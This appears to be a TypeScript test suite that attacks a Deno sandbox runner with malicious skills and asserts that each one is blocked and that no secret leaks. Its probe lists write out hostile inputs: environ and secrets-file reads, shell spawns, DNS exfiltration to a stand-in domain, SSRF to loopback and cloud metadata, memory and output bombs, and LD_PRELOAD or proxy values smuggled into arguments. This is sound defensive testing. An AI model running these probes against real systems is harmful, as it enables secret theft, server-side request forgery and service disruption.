/**
 * The adversarial suite: one malicious skill per attack (the probe list of deno-sandbox.md and more),
 * each submitted over HTTP and approved, run by the real runner under its real sandbox, each asserting
 * how it was stopped. The last test scans every result, log and database file for the secrets and the
 * bot token. Runs as root in CI (per-run uids and the egress firewall need it).
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { processesOf } from "../../vault-runner/src/uid-pool.ts";
import { freePort, Stack } from "../helpers/stack.ts";
import { tempDir } from "../helpers/tmp.ts";
import { assertHealthMode, needs, PER_RUN_UID } from "../helpers/sandbox-mode.ts";

const FOO = "adv-foo-SECRET-value-77e1";
const BAR = "adv-bar-SECRET-value-09c4";
const TOKEN = "8888888:AAadversarial-bot-token";
const UID_BASE = 65100;
const dir = tempDir("oauth3-adv-");
const secretsFile = join(dir, "secrets.env");
writeFileSync(secretsFile, `FOO=${FOO}\nBAR=${BAR}\n`, { mode: 0o600 });
const results: unknown[] = [];
let stack: Stack;

before(async () => {
  stack = new Stack({
    dir,
    port: await freePort(),
    env: {
      SECRETS_FILE: secretsFile,
      RUNNER_BINDINGS: "FOO env;BAR env",
      TELEGRAM_BOT_TOKEN: TOKEN,
      RUNNER_SKILL_UID_BASE: String(UID_BASE),
      RUNNER_MEMORY_LIMIT_MB: "256",
      RUNNER_OUTPUT_LIMIT_BYTES: "65536",
      RUNNER_EGRESS_HOSTS: "api.test.example=127.0.0.1",
      SUBMISSIONS_PER_MINUTE: "1000", // this suite submits ~45 requests in well under a minute
    },
  });
  await stack.start();
});
after(async () => {
  await stack?.stop();
});

const data = (code: string) => `data:text/typescript,${encodeURIComponent(code)}`;

async function submit(code: string, extra: Record<string, unknown> = {}): Promise<string> {
  const { status, json } = await stack.post({ skill_id: "probe", skill_url: data(code), ...extra });
  assert.equal(status, 200, JSON.stringify(json));
  const id = String(json.request_id);
  assert.equal(stack.cli("approve", id).code, 0);
  return id;
}

async function run(code: string, extra: Record<string, unknown> = {}): Promise<Record<string, any>> {
  const final = await stack.waitFinal(await submit(code, extra), 60_000);
  results.push(final);
  return final;
}

/** Runs `expr` inside a skill and reports how it ended: "blocked <ErrorName>" or "ESCAPED". */
const attempt = (expr: string) =>
  `try { const r = await (async () => ${expr})(); console.log("ESCAPED", String(r).slice(0, 80)); }
   catch (e) { console.log("blocked", e?.name ?? String(e)); }`;

describe("adversarial probes", () => {
  test("the runner runs the sandbox this machine allows", async () => {
    assertHealthMode((await (await fetch(`${stack.baseUrl}/health`)).json()) as Record<string, unknown>);
  });

  const permissionProbes: Array<[string, string, Record<string, unknown>?]> = [
    ["environ of itself", `Deno.readTextFileSync("/proc/self/environ")`],
    ["whole env", `Deno.env.toObject()`],
    ["undeclared secret", `Deno.env.get("BAR")`, { secrets: ["FOO"] }],
    ["node process.env", `(await import("node:process")).default.env.BAR`],
    ["secrets file (dynamic)", `Deno.readTextFileSync(${JSON.stringify(secretsFile)})`],
    ["Deno.Command", `new Deno.Command("/bin/sh", { args: ["-c", "id"] }).outputSync()`],
    ["node child_process", `(await import("node:child_process")).execSync("id").toString()`],
    ["kill the runner", `Deno.kill(Deno.ppid, "SIGKILL")`],
    ["ffi", `Deno.dlopen("libc.so.6", {})`],
    ["write a file", `Deno.writeTextFileSync("/tmp/oauth3-adv-probe", "x")`],
    ["runner socket", `Deno.connect({ transport: "unix", path: "${dir}/run/runner.sock" })`],
    ["dstack socket", `Deno.connect({ transport: "unix", path: "/var/run/dstack.sock" })`],
    ["listen", `Deno.listen({ port: 0 })`],
    ["dns exfiltration", `Deno.resolveDns("FOO-value.exfil.example.com", "A")`],
    ["gateway port", `fetch("http://127.0.0.1:${"${PORT}"}/health")`],
    ["loopback", `fetch("http://127.0.0.1/")`],
    ["localhost", `fetch("http://localhost/")`],
    ["ipv6 loopback", `fetch("http://[::1]/")`],
    ["cloud metadata", `fetch("http://169.254.169.254/latest/meta-data/")`],
    ["hex ip", `fetch("http://0x7f000001/")`],
    ["decimal ip", `fetch("http://2130706433/")`],
    ["userinfo trick", `fetch("http://api.test.example:443@127.0.0.1/")`, { network: ["api.test.example"] }],
    ["other port of a granted host", `fetch("https://api.test.example:8443/")`, { network: ["api.test.example"] }],
    ["raw socket to a granted host", `Deno.connect({ hostname: "127.0.0.1", port: 443 })`, { network: ["api.test.example"] }],
    ["sys info", `Deno.hostname()`],
  ];
  test("nothing a skill writes outlives its run: localStorage is gone for the next run; cwd is not writable", async () => {
    const code = `console.log("saw", localStorage.getItem("carry")); localStorage.setItem("carry", "over");
${attempt(`Deno.writeTextFileSync("./x", "y")`)}`;
    const first = await run(code);
    const second = await run(code);
    assert.equal(first.result.stdout, "saw null\nblocked NotCapable\n", first.result.stderr);
    assert.equal(second.result.stdout, "saw null\nblocked NotCapable\n", second.result.stderr);
  });

  test("refused by --no-remote: a remote Worker", async () => {
    const final = await run(`const w = new Worker("https://esm.sh/x", { type: "module" });
w.onerror = (e) => { console.log("blocked worker"); e.preventDefault(); };
await new Promise((r) => setTimeout(r, 1000));`);
    assert.equal(final.result.stdout, "blocked worker\n");
    assert.match(final.result.stderr, /--no-remote/);
  });

  for (const [name, expr, extra] of permissionProbes) {
    test(`refused by Deno's permissions: ${name}`, async () => {
      const final = await run(attempt(expr.replace("${PORT}", String(stack.options.port))), extra);
      assert.equal(final.result.stdout, "blocked NotCapable\n", `${final.result.stdout}${final.result.stderr}`);
    });
  }

  for (const [name, expr] of [
    ["jsr import", `import("jsr:@std/path")`],
    ["npm import", `import("npm:left-pad")`],
    ["computed remote import", `import("https://esm.sh/" + "left-pad")`],
  ]) {
    test(`refused by --no-remote/--no-npm: ${name}`, async () => {
      const final = await run(attempt(expr!));
      assert.equal(final.result.stdout, "blocked TypeError\n", `${final.result.stdout}${final.result.stderr}`);
    });
  }

  test("refused before running: a static remote import", async () => {
    const final = await run(`import "https://esm.sh/left-pad";\nconsole.log("ESCAPED");`);
    assert.equal(final.status, "failed");
    assert.equal(final.result.stdout, "");
    assert.match(final.result.stderr, /--no-remote|remote/i);
  });

  test("refused by the proxy: a granted name that resolves to loopback", { skip: needs({ proxy: true }) }, async () => {
    const final = await run(attempt(`fetch("https://api.test.example/")`), { network: ["api.test.example"] });
    assert.equal(final.result.stdout, "blocked TypeError\n");
    assert.match(stack.log(), /"target":"api.test.example:443","why":"resolves to a non-public address"/);
  });

  test("static imports of secrets and other processes' environ: refused by per-run uids, readable under shared-uid as the README warns", async () => {
    const runnerPid = stack.childPids()[0]!;
    const paths = [secretsFile, `/proc/${runnerPid}/environ`, join(dir, "gateway-db", "data.mdb")];
    const code = paths
      .map(
        (p) =>
          `try { const m = await import(${JSON.stringify(p)}, { with: { type: "text" } }); console.log("ESCAPED", m.default.length); }
       catch (e) { console.log("blocked", /Permission denied/.test(String(e)) ? "EACCES" : String(e).slice(0, 80)); }`,
      )
      .join("\n");
    const final = await run(code);
    if (PER_RUN_UID) assert.equal(final.result.stdout, "blocked EACCES\nblocked EACCES\nblocked EACCES\n");
    else assert.match(final.result.stdout, /^ESCAPED \d+\nESCAPED \d+\nESCAPED \d+\n$/, final.result.stderr);
  });

  test("two concurrent skills cannot read each other's secrets", { skip: needs({ uid: true }) }, async () => {
    const victim = await submit(
      `// @secrets BAR\nconst held = Deno.env.get("BAR"); await new Promise((r) => setTimeout(r, 4000)); console.log(held ? "held" : "none");`,
      { secrets: ["BAR"] },
    );
    let victimPid: number | undefined;
    for (let i = 0; i < 100 && victimPid === undefined; i++) {
      for (let uid = UID_BASE; uid < UID_BASE + 12; uid++) victimPid ??= processesOf(uid)[0];
      if (victimPid === undefined) await new Promise((r) => setTimeout(r, 50));
    }
    assert.ok(victimPid, "the victim skill is running");
    const final = await run(
      `// @secrets FOO
try { const m = await import("/proc/${victimPid}/environ", { with: { type: "text" } }); console.log("ESCAPED", m.default.includes("BAR=")); }
catch (e) { console.log("blocked", /Permission denied/.test(String(e))); }`,
      { secrets: ["FOO"] },
    );
    assert.equal(final.result.stdout, "blocked true\n");
    const v = (await stack.waitFinal(victim, 30_000)) as Record<string, any>;
    results.push(v);
    assert.equal(v.result.stdout, "held\n");
  });

  test("resources: ArrayBuffer bomb, heap bomb, SIGTERM-proof busy Workers, output flood", async () => {
    const ab = await run(
      `const k = []; for (let i = 0; i < 64; i++) { const b = new Uint8Array(32 << 20); b.fill(1); k.push(b); } console.log("ESCAPED");`,
    );
    assert.equal(ab.result.reason, "memory");
    const heap = await run(`const a = []; while (true) a.push({ s: "x".repeat(64) + Math.random() });`);
    assert.ok(["memory", "signaled"].includes(heap.result.reason), heap.result.reason);
    const busy = await run(`// @timeout 2
Deno.addSignalListener("SIGTERM", () => {});
for (let i = 0; i < 4; i++) new Worker("data:text/javascript,while(true){}", { type: "module" });
while (true) {}`);
    assert.equal(busy.result.reason, "timeout");
    const flood = await run(`const s = "y".repeat(4095) + "\\n"; while (true) console.log(s);`);
    assert.equal(flood.result.reason, "output_limit");
    assert.ok(flood.result.truncated);
    if (PER_RUN_UID)
      for (let uid = UID_BASE; uid < UID_BASE + 12; uid++) assert.deepEqual(processesOf(uid), [], `uid ${uid} left a process`);
  });

  test("redaction: a granted secret printed raw, base64, hex, URL-encoded", async () => {
    const final = await run(
      `// @secrets FOO
const v = Deno.env.get("FOO");
const hex = [...new TextEncoder().encode(v)].map((b) => b.toString(16).padStart(2, "0")).join("");
console.log(v); console.log(btoa(v)); console.log(btoa("x" + v)); console.log(hex); console.log(encodeURIComponent(v + "/?"));
console.error(JSON.stringify({ v }));`,
      { secrets: ["FOO"] },
    );
    assert.equal(final.result.stdout.split("\n").filter((l: string) => l.includes("[REDACTED:FOO]")).length, 5, final.result.stdout);
    assert.match(final.result.stderr, /REDACTED:FOO/);
    assert.ok(final.result.redacted);
  });

  test("refused at intake: reserved secret names and bad hosts (nothing stored, nothing run)", async () => {
    const count = () => JSON.parse(stack.cli("list", "--json").out).requests.length;
    const before = count();
    for (const secrets of [["HTTP_PROXY"], ["OTEL_DENO"], ["DENO_DIR"], ["LD_PRELOAD"], ["foo"], ["NODE_OPTIONS"]]) {
      const r = await stack.post({ skill_id: "x", skill_url: data("1"), secrets });
      assert.equal(r.status, 400, JSON.stringify(secrets));
    }
    for (const args of [
      { http_proxy: "http://evil" },
      { DENO_DIR: "/" },
      { LD_PRELOAD: "/x.so" },
      { foo: "shadow" },
      { LOCALDOMAIN: "attacker.example" },
      { RES_OPTIONS: "ndots:15 attempts:1" },
      { HOSTALIASES: "/tmp/aliases" },
      { GCONV_PATH: "/tmp" },
      { TZDIR: "/tmp" },
      { NLSPATH: "/tmp/%N" },
    ]) {
      const r = await stack.post({ skill_id: "x", skill_url: data("1"), secrets: ["FOO"], args });
      assert.equal(r.status, 400, JSON.stringify(args));
    }
    for (const network of [
      ["*"],
      ["localhost"],
      ["gateway"],
      ["127.0.0.1"],
      ["a.com,b.com"],
      ["unix:/x"],
      ["*.example.com"],
      ["[::1]:443"],
    ]) {
      const r = await stack.post({ skill_id: "x", skill_url: data("1"), network });
      assert.equal(r.status, 400, JSON.stringify(network));
      assert.equal(r.json.code, "invalid_host");
    }
    assert.equal(count(), before);
  });

  test("homoglyph hosts are shown and granted as punycode, never as look-alikes", async () => {
    const { json } = await stack.post({ skill_id: "x", skill_url: data("1"), network: ["аpi.example.com"] }); // Cyrillic а
    const status = await stack.status(String(json.request_id));
    assert.deepEqual(status.network, ["xn--pi-6kc.example.com:443"]);
  });

  test("nothing leaked anywhere: results, logs, databases, state", () => {
    const all = JSON.stringify(results) + stack.log();
    for (const s of [FOO, BAR, TOKEN]) assert.ok(!all.includes(s), `${s.slice(0, 8)} leaked into a result or log`);
    const hits: string[] = [];
    const walk = (d: string) => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        const p = join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile() && p !== secretsFile) {
          const bytes = readFileSync(p);
          for (const s of [FOO, BAR, TOKEN]) if (bytes.includes(s)) hits.push(`${p}: ${s.slice(0, 8)}`);
        }
      }
    };
    walk(dir);
    assert.deepEqual(hits, []);
    assert.ok(results.length >= permissionProbes.length + 12, `${results.length} probes ran`);
  });
});
